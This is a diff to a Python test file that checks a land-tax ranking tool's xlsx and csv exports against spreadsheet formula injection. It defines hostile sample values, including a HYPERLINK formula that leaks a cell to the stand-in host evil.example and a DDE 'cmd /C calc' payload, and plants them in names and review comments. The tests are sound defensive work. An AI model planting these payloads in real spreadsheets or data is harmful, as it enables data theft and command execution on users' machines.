@@ -12,6 +12,7 @@ import openpyxl
 import pandas as pd
 import pyogrio
 import pytest
+from conftest import xlsx_rows
 from pyproj import CRS
 from shapely.geometry import box
 
@@ -176,3 +177,110 @@ def test_unwritable_target_refused_and_nothing_left(tmp_path):
         export_table(_ranking(), target)
     assert [q.name for q in tmp_path.iterdir()] == ["r.csv"]
     assert target.is_dir()
+
+
+# -- formula injection ----------------------------------------------------------------------
+#: Text a spreadsheet would run: hyperlinks that leak cells, DDE, and every formula lead.
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")', "=cmd|' /C calc'!A0", "+1+1",
+           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def _hostile() -> pd.DataFrame:
+    n = len(HOSTILE)
+    return pd.DataFrame({
+        "rank": pd.array(range(1, n + 2), dtype="Int64"),
+        "name": [*HOSTILE, "绍兴纺织有限公司"],
+        "tax_per_mu": [-3.5, *[1.25] * n],  # a negative number stays a number
+        "area_mu": [10.0] * (n + 1),
+    })
+
+
+def _formula_cells(path) -> list[str]:
+    """Coordinates of the formula cells of every sheet (openpyxl marks them 'f')."""
+    book = openpyxl.load_workbook(path)
+    try:
+        return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows()
+                for c in row if c.data_type == "f"]
+    finally:
+        book.close()
+
+
+def test_formula_like():
+    from layers.export import formula_like
+
+    flags = formula_like(pd.Series([*HOSTILE, "绍兴", "a=b", None, pd.NA, 3.0], dtype=object))
+    assert flags.tolist() == [True] * len(HOSTILE) + [False] * 5
+
+
+def test_xlsx_writes_formula_text_as_text(tmp_path):
+    p = export_table(_hostile(), tmp_path / "r.xlsx", notes=[("筛选", "=HYPERLINK(\"http://x\")")])
+    assert _formula_cells(p) == []
+    rows = xlsx_rows(p)
+    # the text as typed (XML reads a carriage return back as a line feed)
+    assert [r[1] for r in rows[1:]] == [*(h.replace("\r", "\n") for h in HOSTILE), "绍兴纺织有限公司"]
+    assert rows[1][2] == -3.5 and isinstance(rows[2][2], float)
+    assert xlsx_rows(p, "说明")[1] == ("筛选", "=HYPERLINK(\"http://x\")")
+
+
+def test_csv_prefixes_formula_text(tmp_path):
+    p = export_table(_hostile(), tmp_path / "r.csv")
+    with p.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert [r[1] for r in rows[1:]] == [*("'" + h for h in HOSTILE), "绍兴纺织有限公司"]
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for r in rows[1:] for cell in r[1:2])
+    assert rows[1][2] == "-3.5"  # numbers are not prefixed
+
+
+@pytest.fixture(scope="module")
+def hostile_workspace(sample_workspace, tmp_path_factory):
+    """The sample with hostile enterprise, holder and district names, evaluated for 2025."""
+    import shutil
+
+    from layers.workspace import Workspace
+    from webapp.service import evaluate
+
+    ws = Workspace(tmp_path_factory.mktemp("hostile") / "hostile.gpkg")
+    shutil.copyfile(sample_workspace.path, ws.path)
+    ent, parcels, districts = ws.read("enterprises"), ws.read("parcels"), ws.read("districts")
+    ent["name"] = ent["name"].astype(object)
+    ent.loc[ent.index[::3], "name"] = HOSTILE[0]
+    parcels["holder_name"] = parcels["holder_name"].astype(object)
+    parcels.loc[parcels.index[::2], "holder_name"] = HOSTILE[1]
+    districts["name"] = [f"{HOSTILE[2]}{i}" for i in range(len(districts))]
+    ws.write({"enterprises": ent, "parcels": parcels, "districts": districts})
+    evaluate(ws, year=2025, progress=False)
+    return ws
+
+
+@pytest.mark.parametrize("level", ["enterprise", "parcel", "district"])
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_rankings_of_hostile_names_are_inert(hostile_workspace, tmp_path, level, suffix):
+    from webapp.service import export_ranking, ranking
+
+    frame, year = ranking(hostile_workspace, level=level, by="tax_per_mu")
+    p = export_ranking(frame, level, "tax_per_mu", year, tmp_path / f"r{suffix}", hostile_workspace)
+    if suffix == ".xlsx":
+        assert _formula_cells(p) == []
+        texts = [str(v) for row in xlsx_rows(p) for v in row if v is not None]
+        assert any(t.startswith(("=HYPERLINK", "=cmd", "+1+1")) for t in texts)  # kept as typed
+    else:
+        text = p.read_text(encoding="utf-8-sig")
+        assert not any(line.split(",")[2:3] and line.split(",")[2].startswith(("=", "+", "@"))
+                       for line in text.splitlines())
+        assert "'=HYPERLINK" in text or "'=cmd" in text or "'+1+1" in text
+
+
+def test_review_export_of_a_hostile_comment_is_inert(hostile_workspace, tmp_path):
+    from layers.review import save_decision
+    from webapp.service import export_review, review_of_year
+
+    rows, year = review_of_year(hostile_workspace, 2025)
+    pid = str(rows["parcel_id"].iloc[0])
+    save_decision(hostile_workspace, pid, year, status="需现场核查", measure="", deadline="",
+                  comment="=1+cmd|' /C calc'!A0", base_version=0, user="=rev")
+    rows, year = review_of_year(hostile_workspace, 2025)
+    p = export_review(rows, year, tmp_path / "审核.xlsx", hostile_workspace)
+    assert _formula_cells(p) == []
+    assert "=1+cmd|' /C calc'!A0" in [v for row in xlsx_rows(p) for v in row]
+    c = export_review(rows, year, tmp_path / "审核.csv", hostile_workspace).read_text(encoding="utf-8-sig")
+    assert "'=1+cmd|' /C calc'!A0" in c and ",=" not in c
